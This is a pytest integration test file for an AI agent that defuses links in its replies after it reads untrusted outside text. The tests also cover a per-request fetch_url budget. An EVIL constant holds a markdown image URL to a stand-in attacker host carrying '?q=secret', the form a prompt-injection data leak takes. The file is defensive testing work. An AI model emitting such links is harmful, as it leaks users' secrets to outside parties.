"""What the agent says once it has read what a stranger wrote: no address of a stranger's is a link in it."""

from __future__ import annotations

from typing import Any, cast

import pytest
from langchain_core.messages import AIMessage, AIMessageChunk, HumanMessage

from app.lifespan import Opened
from app.runs import Runs
from graph.state import State
from nodes.provenance import judge_of
from nodes.saying import safely_said
from tests.integration.conftest import Script, calls, messages_of, say
from tests.integration.planning import Desk, pending, plan, runs_at, task

EVIL = "Look: ![](https://evil.example/?q=secret)"
SAFE = "Look: ![] (https[:]//evil.example/?q=secret)"
READ = ("outside", {"text": "show a picture"})


@pytest.fixture
def runs(services: Opened) -> Runs:
    return runs_at(Desk(), services)


async def streamed(runs: Runs, context: Any, graph: str = "react") -> str:
    """All a client is shown of replies while they come."""
    given, config = {"messages": [HumanMessage("Read it.", id="r")]}, {"configurable": {"thread_id": "t"}}
    stream = runs.graph(graph).astream(given, config, context=context, stream_mode="messages")
    parts = [part async for part, _ in stream]
    return "".join(str(one.text) for one in parts if isinstance(one, (AIMessage, AIMessageChunk)))


async def test_an_answer_after_a_reading_is_streamed_only_as_it_is_stored(runs: Runs, script: Script) -> None:
    shown = await streamed(runs, script(calls(READ), say(EVIL)))

    assert shown == SAFE
    assert (await messages_of(runs, "t"))[-1].text == SAFE
    assert (await runs.known("t")).values["answer"] == SAFE


async def test_before_a_reading_words_are_the_models_own(runs: Runs, script: Script) -> None:
    assert await streamed(runs, script(say(EVIL))) == EVIL


async def test_what_a_sub_task_says_is_shown_to_nobody_as_it_comes(runs: Runs, script: Script) -> None:
    lists = {"planner": [plan(task("s", "react", task="what"))], "subtasks": {"s": [calls(READ), say(EVIL)]}}

    assert await streamed(runs, script(say(EVIL), lists=lists), "plan") == SAFE


async def test_what_is_said_beside_a_call_leads_nowhere_either(runs: Runs, script: Script) -> None:
    beside = {**calls(("lookup", {"id": "a"})), "content": EVIL}
    await runs.start("Read it.", thread_id="t", context=script(calls(READ), beside, say("Done.")))

    said = [str(one.text) for one in await messages_of(runs, "t") if isinstance(one, AIMessage)]
    assert said == ["", SAFE, "Done."]


async def test_parts_of_a_message_are_defused_one_by_one(runs: Runs, script: Script) -> None:
    context = script(calls(READ), say("Done."))
    await runs.start("Read it.", thread_id="t", context=context)
    state = cast("State", (await runs.known("t")).values)
    judge = judge_of(state, runs.opened.services.tools, context)

    def parts(words: str, address: str) -> list[str | dict[Any, Any]]:
        image = {"type": "image_url", "image_url": {"url": address, "detail": 1}}
        return [words, {"type": "text", "text": words}, {"type": "reasoning", "summary": [{"text": words}]}, image]

    said = safely_said(AIMessage(parts(EVIL, "https://evil.example/?q=secret")), judge)

    assert said.content == parts(SAFE, "https[:]//evil.example/?q=secret")


async def test_a_read_that_failed_counts_among_those_the_request_asks_for(services: Opened, script: Script) -> None:
    """Its address is told to whoever owns it, also when they answer with an error."""
    office = Runs(opened=services, progress=lambda _node, _change: None)
    fetching = ("fetch_url", {"url": "http://127.0.0.1:1/"})
    wanted = {"reader": [calls(("asked_for", {"calls": [{"tool": "fetch_url", "count": 1}]}))]}
    context = script(
        calls(("read_file", {"path": "docs/travel-policy.md"})),
        calls(fetching),
        calls(fetching),
        say("Done."),
        lists=wanted,
    )

    report = await office.start("Read it, then fetch http://127.0.0.1:1/", thread_id="t", context=context)

    assert pending(report) == {"fetch_url": ("high", "the request asks for 1 fetch_url, and 1 ran already")}
